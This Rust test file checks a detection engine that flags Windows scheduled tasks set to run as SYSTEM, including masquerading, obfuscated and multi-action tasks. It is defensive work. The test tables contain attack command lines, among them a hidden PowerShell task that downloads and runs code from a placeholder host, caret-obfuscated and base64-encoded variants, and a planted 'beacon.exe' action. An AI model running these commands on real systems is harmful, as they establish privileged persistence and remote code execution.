//! Tables of cases: event fields in, verdict and task description out.

use systemtask::allowlist::{Allowlist, Date};
use systemtask::detect::Verdict;
use systemtask::engine::Engine;
use systemtask::event::{Field, FieldList};
use systemtask::options::Mode;

fn engine() -> Engine {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/splunk_app/lookups/systemtask_allowlist.csv");
    let allowlist = Allowlist::load(std::path::Path::new(path), Date { year: 2026, month: 11, day: 28 }).unwrap();
    Engine::new(Mode::Tag, Some(allowlist), Default::default())
}

fn sysmon(command_line: &str, user: &str) -> FieldList {
    let image = command_line.split_whitespace().next().unwrap_or("").trim_matches('"').to_string();
    FieldList(vec![
        (Field::EventCode, "1".into()),
        (Field::CommandLine, command_line.into()),
        (Field::Image, image),
        (Field::ProcessUser, user.into()),
        (Field::Computer, "WS1.corp.local".into()),
    ])
}

fn verdict(event: &FieldList) -> Option<Verdict> {
    engine().evaluate(event).map(|f| f.verdict)
}

const USER: &str = "CORP\\alice";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";

#[test]
fn command_lines() {
    use Verdict::*;
    let cases: &[(&str, &str, Option<Verdict>)] = &[
        // The strategy's two validation commands.
        (
            r#"schtasks /create /tn test /tr "c:\windows\syswow64\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring(''http://x.x.x.x:8080/x'''))'" /sc onlogon /ru System"#,
            USER,
            Some(Alert),
        ),
        (r#"schtasks /create /tn "mysc" /tr C:\windows\system32\cmd.exe /sc ONLOGON /ru "System""#, USER, Some(Alert)),
        // Every documented SYSTEM spelling, switch style and order.
        (r#"schtasks /create /tn x /tr c:\x.exe /sc onstart /ru """#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT AUTHORITY\SYSTEM""#, USER, Some(Alert)),
        (r#"schtasks -create -ru SYSTEM -tn x -tr c:\x.exe"#, USER, Some(Alert)),
        (r#"SCHTASKS /RU system /CREATE /TN x /TR c:\x.exe"#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru "SYS"TEM"#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru S-1-5-18"#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT-AUTORITÄT\SYSTEM""#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru "AUTORITE NT\Système""#, USER, Some(Alert)),
        (r#"schtasks /change /tn x /ru SYSTEM"#, USER, Some(Alert)),
        (r#"schtasks.exe /change /tn \Microsoft\Windows\x /tr c:\evil.exe /ru """#, USER, Some(Alert)),
        // cmd wrappers, carets, chains.
        (r#"cmd.exe /c "schtasks /create /tn x /tr c:\x.exe /ru SYSTEM""#, USER, Some(Alert)),
        (r#"cmd /c sch^tasks /cre^ate /tn x /tr c:\x.exe /r^u SYS^TEM"#, USER, Some(Alert)),
        (r#"cmd /c echo hi & schtasks /create /tn x /tr c:\x.exe /ru system"#, USER, Some(Alert)),
        (r#"cmd /c schtasks /create /tn x /tr "c:\x.exe /ru system""#, USER, Some(Benign)),
        // Implicit SYSTEM: no /ru, run by SYSTEM.
        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, SYSTEM, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, "NT-AUTORITÄT\\SYSTEM", Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, USER, Some(Benign)),
        (r#"schtasks /create /s fs02 /tn x /tr c:\x.exe"#, SYSTEM, Some(Benign)),
        // Switch names as schtasks folds them (OrdinalIgnoreCase): `ſ` is `s`, `ü` is no `u`;
        // a name no switch has takes no value.
        (r#"schtasks /create /ſ fs02 /tn x /tr c:\x.exe"#, SYSTEM, Some(Benign)),
        (r#"schtasks /create /tn x /tr c:\x.exe /rü SYSTEM"#, USER, Some(Benign)),
        (r#"schtasks /create /tn x /tr c:\x.exe /notaswitchname /ru SYSTEM"#, USER, Some(Alert)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru SYSTEM /ru CORP\alice"#, USER, Some(Benign)),
        (r#"schtasks /create /xml c:\t.xml /tn x"#, USER, Some(Benign)),
        (r#"schtasks /create /xml c:\t.xml /tn x /ru SYSTEM"#, USER, Some(Alert)),
        // Words that contain "system" are not SYSTEM.
        (
            r#"schtasks /create /tn SystemCheck /tr C:\Windows\system32\cmd.exe /ru CORP\system_admin"#,
            USER,
            Some(Benign),
        ),
        (r#"schtasks /create /tn x /tr C:\Windows\system32\cmd.exe /ru svc_system"#, USER, Some(Benign)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru CORP\system"#, USER, Some(Benign)),
        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT AUTHORITY\NETWORK SERVICE""#, USER, Some(Benign)),
        // Not a change: described, never an alert.
        (r#"schtasks /delete /tn x /f"#, SYSTEM, Some(Benign)),
        (r#"schtasks /query /fo list /v"#, SYSTEM, Some(Benign)),
        (r#"schtasks /run /tn x /i"#, SYSTEM, Some(Benign)),
        (r#"schtasks /end /tn x"#, SYSTEM, Some(Benign)),
        // at.exe jobs run as SYSTEM.
        (r#"at 13:20 /interactive cmd"#, USER, Some(Alert)),
        (r#"at \\host 9:00pm /every:M c:\x.bat"#, USER, Some(Alert)),
        (r#"at 3 /delete"#, USER, Some(Benign)),
        (r#"at"#, USER, Some(Benign)),
        // PowerShell.
        (
            r#"powershell.exe -c "Register-ScheduledTask -TaskName x -Action $a -Trigger $t -User 'NT AUTHORITY\SYSTEM'""#,
            USER,
            Some(Alert),
        ),
        (
            r#"powershell.exe -c "$p = New-ScheduledTaskPrincipal -UserId SYSTEM -LogonType ServiceAccount; Register-ScheduledTask x -Action $a -Principal $p""#,
            USER,
            Some(Alert),
        ),
        (r#"powershell -c "Register-ScheduledTask -TaskName x -Action $a -User S-1-5-18""#, USER, Some(Alert)),
        (r#"powershell -c "Register-ScheduledTask -TaskName x -Action $a -User CORP\bob""#, USER, Some(Benign)),
        (
            r#"powershell -c "$p = New-ScheduledTaskPrincipal -GroupId 'BUILTIN\Administrators' -RunLevel Highest; Register-ScheduledTask x -Principal $p""#,
            USER,
            Some(Benign),
        ),
        (r#"powershell -c "Unregister-ScheduledTask -TaskName x -Confirm:$false""#, USER, Some(Benign)),
        // -EncodedCommand of: Register-ScheduledTask -TaskName x -User SYSTEM
        (
            "powershell -enc UgBlAGcAaQBzAHQAZQByAC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawAgAC0AVABhAHMAawBOAGEAbQBlACAAeAAgAC0AVQBzAGUAcgAgAFMAWQBTAFQARQBNAA==",
            USER,
            Some(Alert),
        ),
        ("powershell -c \"schtasks /create /tn x /tr c:\\x.exe /ru SYSTEM\"", USER, Some(Alert)),
        // Unrelated processes pass through.
        (r#"C:\Windows\system32\notepad.exe C:\schtasks.txt"#, USER, None),
        (r#"cmd /c dir"#, USER, None),
    ];
    for (line, user, want) in cases {
        assert_eq!(verdict(&sysmon(line, user)), *want, "{line} (user {user})");
    }
}

#[test]
fn renamed_schtasks_is_recognized_by_original_file_name() {
    let mut e = sysmon(r#"C:\Users\Public\svc.exe /create /tn x /tr c:\x.exe /ru SYSTEM"#, USER);
    e.0.push((Field::OriginalFileName, "sctasks.exe".into()));
    let f = engine().evaluate(&e).unwrap();
    assert_eq!(f.verdict, Verdict::Alert);
    assert!(f.task.indicators.contains(&"renamed_binary"), "{:?}", f.task.indicators);
}

#[test]
fn security_4688_uses_the_subject_sid_for_implicit_system() {
    let e = FieldList(vec![
        (Field::EventCode, "4688".into()),
        (Field::CommandLine, r#"schtasks /create /tn x /tr c:\x.exe"#.into()),
        (Field::SubjectUserName, "WS1$".into()),
        (Field::SubjectDomainName, "CORP".into()),
        (Field::SubjectUserSid, "S-1-5-18".into()),
    ]);
    let f = engine().evaluate(&e).unwrap();
    assert_eq!(f.verdict, Verdict::Alert);
    assert_eq!(f.reasons[0], "created by SYSTEM without /ru");
    assert_eq!(f.task.creator.as_deref(), Some("CORP\\WS1$"));
}

/// A 4698/4702 event; `command` may carry arguments after a `|`.
fn task_event(code: &str, name: &str, command: &str, user_id: &str, creator: &str) -> FieldList {
    let (command, arguments) = command.split_once('|').unwrap_or((command, ""));
    let xml = format!(
        r#"<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>{name}</URI></RegistrationInfo><Principals><Principal id="Author"><UserId>{user_id}</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>"#
    );
    let (domain, user) = creator.split_once('\\').unwrap();
    FieldList(vec![
        (Field::EventCode, code.into()),
        (Field::TaskName, name.into()),
        (if code == "4702" { Field::TaskContentNew } else { Field::TaskContent }, xml),
        (Field::SubjectUserName, user.into()),
        (Field::SubjectDomainName, domain.into()),
        (Field::SubjectUserSid, if user.ends_with('$') { "S-1-5-18".into() } else { "S-1-5-21-1-2-3-1104".into() }),
        (Field::Computer, "WS1.corp.local".into()),
    ])
}

#[test]
fn masquerading_tasks_stay_alerts() {
    use Verdict::*;
    let uso = r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan";
    let cases: &[(&str, &str, &str, &str, Verdict)] = &[
        // The genuine article is suppressed ...
        (uso, r"%systemroot%\system32\usoclient.exe|StartScan", "S-1-5-18", r"CORP\WS1$", Suppressed),
        (
            r"\GoogleUpdateTaskMachineUA{A1B2}",
            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe|/ua /installsource scheduler",
            "S-1-5-18",
            r"CORP\admin",
            Suppressed,
        ),
        // ... but not a Windows name running something elsewhere,
        (uso, r"C:\Users\Public\usoclient.exe|StartScan", "S-1-5-18", r"CORP\WS1$", Alert),
        (uso, r"C:\ProgramData\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
        (uso, r"%TEMP%\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
        (uso, r"C:\Windows\System32\cmd.exe", "S-1-5-18", r"CORP\WS1$", Alert),
        (uso, r"C:\Windows\..\Users\Public\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
        // nor the real program updated by a user account (pinned to the machine account),
        (uso, r"%systemroot%\system32\usoclient.exe|StartScan", "S-1-5-18", r"CORP\mallory", Alert),
        // nor the real program with other arguments,
        (uso, r"%systemroot%\system32\usoclient.exe|StartScan & calc.exe", "S-1-5-18", r"CORP\WS1$", Alert),
        // nor vendor names with a foreign program.
        (
            r"\GoogleUpdateTaskMachineCore",
            r"C:\ProgramData\Google\Update\GoogleUpdate.exe",
            "S-1-5-18",
            r"CORP\admin",
            Alert,
        ),
        (
            r"\MicrosoftEdgeUpdateTaskMachineUA",
            r"C:\Program Files (x86)\Microsoft\EdgeUpdate\EdgeCoreUpdate.exe",
            "S-1-5-18",
            r"CORP\admin",
            Alert,
        ),
        (
            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
            r"C:\Windows\system32\cmd.exe",
            "S-1-5-18",
            r"THESHIRE\pgustavo",
            Alert,
        ),
    ];
    for (name, command, user_id, creator, want) in cases {
        let f = engine().evaluate(&task_event("4702", name, command, user_id, creator)).unwrap();
        assert_eq!(f.verdict, *want, "{name} running {command} by {creator}");
        if *want == Suppressed {
            assert!(f.suppressed_by.is_some());
        }
    }
}

/// A Windows task rewritten with a second action (the "multi-action" hiding technique): an
/// entry for the genuine task (its one program, `wermgr.exe -upload`) must not cover it, and
/// the alert must name the added program and say what is odd about it.
#[test]
fn an_action_added_to_an_allowed_windows_task_is_not_suppressed() {
    let xml = |extra: &str| {
        format!(
            r#"<?xml version="1.0" encoding="UTF-16"?><Task version="1.6" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>\Microsoft\Windows\Windows Error Reporting\QueueReporting</URI></RegistrationInfo><Principals><Principal id="LocalSystem"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context="LocalSystem"><Exec><Command>%windir%\system32\wermgr.exe</Command><Arguments>-upload</Arguments></Exec>{extra}</Actions></Task>"#
        )
    };
    let event = |xml: String| {
        FieldList(vec![
            (Field::EventCode, "4702".into()),
            (Field::TaskName, r"\Microsoft\Windows\Windows Error Reporting\QueueReporting".into()),
            (Field::TaskContentNew, xml),
            (Field::SubjectUserName, "WS1$".into()),
            (Field::SubjectDomainName, "CORP".into()),
        ])
    };
    // The entry a site would write for the genuine task (QueueReporting runs wermgr.exe -upload).
    let engine = {
        let today = Date { year: 2026, month: 11, day: 28 };
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/splunk_app/lookups/systemtask_allowlist.csv");
        let mut list = Allowlist::load(std::path::Path::new(path), today).unwrap();
        let site = "id,task_name,command,arguments,creator,host,expires,comment\nwer-queue,\\Microsoft\\Windows\\Windows Error Reporting\\QueueReporting,%windir%\\system32\\wermgr.exe,-upload,*$,,,WER queue upload\n";
        list.add(site.as_bytes(), "systemtask_allowlist_site.csv", Some("site"), today).unwrap();
        Engine::new(Mode::Tag, Some(list), Default::default())
    };
    let genuine = engine.evaluate(&event(xml(""))).unwrap();
    assert_eq!(genuine.verdict, Verdict::Suppressed, "{:?}", genuine.reasons);

    for (extra, added) in [
        (r"<Exec><Command>C:\Users\Public\beacon.exe</Command></Exec>", r"C:\Users\Public\beacon.exe"),
        (
            r"<Exec><Command>%windir%\system32\wermgr.exe</Command><Arguments>-upload &amp; calc</Arguments></Exec>",
            "-upload & calc",
        ),
        (
            r"<ComHandler><ClassId>{00000000-0000-0000-0000-0000DEADBEEF}</ClassId></ComHandler>",
            "COM handler {00000000",
        ),
    ] {
        let f = engine.evaluate(&event(xml(extra))).unwrap();
        assert_eq!(f.verdict, Verdict::Alert, "{extra}: {:?}", f.reasons);
        assert!(f.suppressed_by.is_none());
        assert!(
            f.reasons.iter().any(|r| r.starts_with("2 actions; also runs") && r.contains(added)),
            "{:?}",
            f.reasons
        );
        assert!(f.task.indicators.contains(&"multiple_actions"), "{:?}", f.task.indicators);
    }
    let beacon = engine.evaluate(&event(xml(r"<Exec><Command>C:\Users\Public\beacon.exe</Command></Exec>"))).unwrap();
    for indicator in ["user_writable_path", "windows_task_name_non_windows_binary"] {
        assert!(beacon.task.indicators.contains(&indicator), "{indicator}: {:?}", beacon.task.indicators);
    }
}

#[test]
fn atomic_red_team_task_xml_without_system_principal_does_not_alert() {
    for file in ["T1053_005_WMI.xml", "T1053_05_SCTASK_HIDDEN_ATTRIB.xml"] {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/samples/atomic").join(file);
        let bytes = std::fs::read(&path).unwrap();
        let text = if bytes.starts_with(&[0xff, 0xfe]) {
            let units: Vec<u16> = bytes[2..].chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
            String::from_utf16(&units).unwrap()
        } else {
            String::from_utf8(bytes).unwrap()
        };
        let e = FieldList(vec![(Field::EventCode, "4698".into()), (Field::TaskContent, text)]);
        let f = engine().evaluate(&e).unwrap();
        assert_eq!(f.verdict, Verdict::Benign, "{file}: {:?}", f.reasons);
    }
}

#[test]
fn alert_fields_for_triage() {
    let e = task_event("4698", r"\evil", r"C:\Users\Public\x.exe", "S-1-5-18", r"CORP\bob");
    let f = engine().evaluate(&e).unwrap();
    assert_eq!(f.verdict, Verdict::Alert);
    assert_eq!(f.reasons, ["principal S-1-5-18", "task created"]);
    assert_eq!(f.task.action, Some("created"));
    assert_eq!(f.task.run_as.as_deref(), Some("S-1-5-18"));
    assert_eq!(f.task.creator.as_deref(), Some(r"CORP\bob"));
    assert_eq!(f.task.evidence, Some("task_xml"));
    assert_eq!(f.task.indicators, ["user_writable_path"]);
}

/// A `-User` the command line holds only as an expression is an account nobody can read there:
/// its privilege is unknown (the task event, if audited, shows the principal), never `user`.
#[test]
fn powershell_principals_held_in_expressions_are_unknown() {
    use systemtask::detect::Privilege;
    let cases: &[(&str, Privilege)] = &[
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User $u""#, Privilege::Unknown),
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User ('SY'+'STEM')""#, Privilege::Unknown),
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User \"$env:u\"""#, Privilege::Unknown),
        (
            r#"powershell -c "$p = New-ScheduledTaskPrincipal -UserId $cred.UserName; Register-ScheduledTask x -Principal $p""#,
            Privilege::Unknown,
        ),
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User 'CORP\WS01$'""#, Privilege::User),
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User CORP\bob""#, Privilege::User),
        (r#"powershell -c "Register-ScheduledTask x -Action $a -User SYSTEM""#, Privilege::System),
    ];
    for (line, want) in cases {
        let f = engine().evaluate(&sysmon(line, USER)).unwrap_or_else(|| panic!("no finding: {line}"));
        assert_eq!(f.task.privilege, Some(*want), "{line}: {:?}", f.reasons);
        assert_eq!(f.verdict == Verdict::Alert, *want == Privilege::System, "{line}");
    }
}
